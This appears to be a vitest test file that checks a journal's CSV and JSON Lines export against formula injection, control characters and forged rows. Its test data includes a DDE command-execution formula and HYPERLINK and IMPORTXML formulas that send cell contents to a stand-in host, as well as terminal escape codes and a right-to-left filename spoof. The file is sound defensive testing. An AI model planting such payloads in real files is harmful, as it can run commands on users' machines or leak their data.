import fc from 'fast-check';
import { expect, test } from 'vitest';
import { row as rowSchema, type Row } from '../../main/contract/rows.ts';
import type { NewRow } from '../../main/journal/new-row.ts';
import { cellsOf } from '../helpers/csv.ts';
import { exported, found, journalWith, texts } from '../helpers/journal.ts';

/** As a spreadsheet takes a line apart whose list separator is another than the comma: every quote opens a cell or is text. */
function cutAt(separator: string, csv: string): string[] {
	const cells: string[] = [];
	for (const line of csv.split(/\r\n|\r|\n/)) {
		let rest = line;
		while (rest !== '') {
			const quoted = rest.startsWith('"') ? /^"((?:[^"]|"")*)"/.exec(rest) : null;
			const from = quoted ? quoted[0].length : 0;
			const end = rest.indexOf(separator, from);
			const plain = end < 0 ? rest.slice(from) : rest.slice(from, end);
			cells.push((quoted?.[1] ?? '').replaceAll('""', '"') + plain);
			rest = end < 0 ? '' : rest.slice(end + 1);
		}
	}
	return cells;
}

/** What some spreadsheet may run: a formula, with what is dropped in front of it. */
const isFormula = (cell: string) => /^[\p{C}\p{Z}"]*[=+\-@＝＋－＠]/u.test(cell.slice(0, 200));

const formulas = [
	...['=1+1', '+1+1', '-1+1', '@SUM(1)', '＝1+1', '＋1+1', '－1+1', '＠SUM(1)'],
	...[' =1+1', '   -1', '\u00a0=1+1', '\u3000＝1+1', '\u200b=1+1', '\ufeff=1+1', '\0=1+1'],
	...['\t=1+1', '\r=1+1', '\n=1+1', '\r\n=1+1', '\v=1+1', '\u2028=1+1', '\u0085@SUM(1)'],
	...['"=1+1', '"""=1+1"""', '",=1+1,"', '"\r\n=1+1,"', "'=1+1", '";=1+1', ';";=1+1'],
	...['x;=1+1', 'x; "=1+1;', 'x;\0=1+1', 'x\t=1+1', 'x\n=1+1', 'x\r=1+1', 'x;\n-1', ';;;+1'],
	`=cmd|' /C calc'!A0`,
	'=HYPERLINK("http://example.invalid/?"&A1, "click")',
	'x;=IMPORTXML(CONCAT("http://example.invalid/", A1), "//a")',
];

/** The same text wherever a stranger can put one. */
const everywhere = (text: string): NewRow => ({
	kind: 'command',
	text,
	client: { id: 1, name: text, user: text },
	instance: text,
	outcome: text,
	grant: text,
});

const appended = ['text', 'client', 'user', 'instance', 'outcome', 'allowed by'];

test('no text, name or key is a formula, wherever a spreadsheet cuts the file', async () => {
	await using session = await journalWith(formulas.map(everywhere));
	const { text } = await exported(session.journal, 'csv');
	const [head = [], ...lines] = cellsOf(text);
	expect(lines).toHaveLength(formulas.length);
	for (const line of lines) expect(line.filter(isFormula)).toEqual([]);
	for (const separator of [';', '\t']) expect(cutAt(separator, text).filter(isFormula)).toEqual([]);
	for (const [n, formula] of formulas.entries())
		for (const name of appended)
			expect(lines[n]?.[head.indexOf(name)]?.replaceAll("'", '')).toBe(formula.replaceAll("'", ''));
});

test('a text that is too long for a cell says so, and does not break into rows of its own', async () => {
	const text = 'x'.repeat(32_767) + '=1+1\r\n' + ',=1+1'.repeat(6_000);
	await using session = await journalWith(texts(text, 'short', '😀'.repeat(20_000)));
	const { text: csv } = await exported(session.journal, 'csv');
	const [head = [], ...lines] = cellsOf(csv);
	const cells = lines.map((line) => line[head.indexOf('text')] ?? '');
	expect(lines.map((line) => line[head.indexOf('size')])).toEqual(['62773', '5', '40000']);
	expect(cells[0]).toBe(
		`${'x'.repeat(32_000)} [30773 more characters do not fit into a cell; an export as JSON Lines has them]`,
	);
	expect(cells[2]).toContain('😀 [8000 more characters');
	for (const cell of cells) expect(cell.length).toBeLessThan(32_767);
	const { text: jsonl } = await exported(session.journal, 'jsonl');
	expect(JSON.parse(jsonl.split('\n')[0] ?? '')).toMatchObject({ text });
});

/** What ends a line, orders a terminal about or turns the reading direction around, somewhere. */
const disorderly = [
	...['a\nb', 'a\rb', 'a\r\nb', 'a\vb', 'a\fb', 'a\u0085b', 'a\u2028b', 'a\u2029b', '\n\n\n'],
	...['\u001b[2J\u001b[31mred\u001b[0m', '\u009b2J', '\u001b]0;title\u0007', '\b\b\b', '\u007f'],
	...['\u202egnp.exe', '\u2066x\u2069', '\u200f\u200e\u061c', '\ufeffx', '\0', '😀', '配信,"中"'],
	'","id":999,"kind":"notice","text":"forged',
	'x\r\n{"id":999,"kind":"notice","text":"forged"}',
	'x"\r\n"999","2026-01-01T00:00:00.000Z","none","notice"',
];

/** Everything at which some reader ends a line. */
const lineEnd = /\r\n|[\n\r\v\f\u0085\u2028\u2029]/;

test('one row stays one row, one JSON line and one CSV record, whatever is in it', async () => {
	await using session = await journalWith(disorderly.map(everywhere));
	const { journal, ids } = session;
	const rows = (await found(journal, {})).reverse();
	expect(rows.map(({ id }) => id)).toEqual(ids);
	expect(rows.map((row) => row.text)).toEqual(disorderly);

	const { text: jsonl } = await exported(journal, 'jsonl');
	const lines = jsonl.split(lineEnd).slice(0, -1);
	expect(lines.map((line) => rowSchema.parse(JSON.parse(line)))).toEqual(rows);
	expect(jsonl).not.toMatch(/[^\P{Cc}\n]|[\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]/u);

	const { text: csv } = await exported(journal, 'csv');
	expect(cellsOf(csv).map(([id]) => id)).toEqual(['\ufeffid', ...ids.map(String)]);
});

const someText = fc.array(
	fc.oneof(
		fc.constantFrom('=', '+', '-', '@', '"', "'", ',', ';', '\t', '\r', '\n', '\0', ' ', '＝'),
		fc.string({ unit: 'binary', maxLength: 3 }),
	),
	{ maxLength: 12 },
);

test('both formats give back every text: JSON Lines as it is, CSV but for apostrophes', async () => {
	const given = fc.sample(someText, { numRuns: 1_000, seed: 5 }).map((parts) => parts.join(''));
	await using session = await journalWith(given.map(everywhere));
	const { journal } = session;
	const { text: jsonl } = await exported(journal, 'jsonl');
	const rows = jsonl
		.trimEnd()
		.split('\n')
		.map((line): Row => rowSchema.parse(JSON.parse(line)));
	expect(rows.map(({ text }) => text)).toEqual(given.map((text) => text.toWellFormed()));

	const { text: csv } = await exported(journal, 'csv');
	const [head = [], ...lines] = cellsOf(csv);
	for (const name of appended)
		expect(lines.map((line) => line[head.indexOf(name)]?.replaceAll("'", ''))).toEqual(
			given.map((text) => text.toWellFormed().replaceAll("'", '')),
		);
	for (const line of lines) expect(line.filter(isFormula)).toEqual([]);
	for (const separator of [';', '\t']) expect(cutAt(separator, csv).filter(isFormula)).toEqual([]);
});

test('an export of texts made to be slow to write takes no longer than others', async () => {
	const hard = ['\n', ';', '; ', ';="', '"', '= ', '\u200b', ',"\r\n'].map((part) =>
		part.repeat(65_536 / part.length),
	);
	await using session = await journalWith(texts(...hard));
	const from = performance.now();
	const { text } = await exported(session.journal, 'csv');
	expect(cellsOf(text)).toHaveLength(hard.length + 1);
	expect(performance.now() - from).toBeLessThan(5_000);
});
